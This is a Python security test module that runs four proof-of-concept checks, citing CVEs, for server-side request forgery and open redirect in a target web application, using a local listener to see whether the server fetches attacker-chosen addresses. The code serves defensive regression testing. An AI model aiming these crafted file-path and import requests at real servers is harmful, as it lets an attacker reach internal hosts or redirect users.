"""Having the server, or a visitor, ask another host."""

import contextlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler

from tests.agentfabric.attacks.visitor import begin, chat
from tests.agentfabric.local_server import local_server
from tests.agentfabric.target import Target


@contextlib.contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server inside, which nobody but the host reaches: its address, and what it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("content-length", "0")
            self.end_headers()

        do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            pass

    with local_server(Handler) as address:
        yield address, asked


def address_as_a_file(target: Target) -> bool:
    """CVE-2024-4325, CVE-2024-47167, CVE-2024-48052: the server fetches any address."""
    begin(target.attacker)
    with listener() as (address, asked):
        chat(target.attacker, [], [{"path": f"{address}/inside"}])
    return bool(asked)


def address_of_an_agent(target: Target) -> bool:
    """Upstream's import of an agent fetches any address, and unpacks what comes."""
    begin(target.attacker)
    with listener() as (address, asked):
        target.attacker.event("import_space", [f"{address}/inside.zip", "", None])
    return bool(asked)


def redirect(target: Target) -> bool:
    """CVE-2024-4940, CVE-2024-8021: a link to the page leads elsewhere."""
    with listener() as (address, _):
        return target.attacker.get(f"/file={address}/").headers.get("location") == f"{address}/"


def address_in_a_link(target: Target) -> bool:
    """CVE-2024-1183: the server asks whether there is something at an address."""
    with listener() as (address, asked):
        target.attacker.get(f"/file={address}/inside")
    return bool(asked)


ATTACKS = [
    address_as_a_file,
    address_of_an_agent,
    redirect,
    address_in_a_link,
]
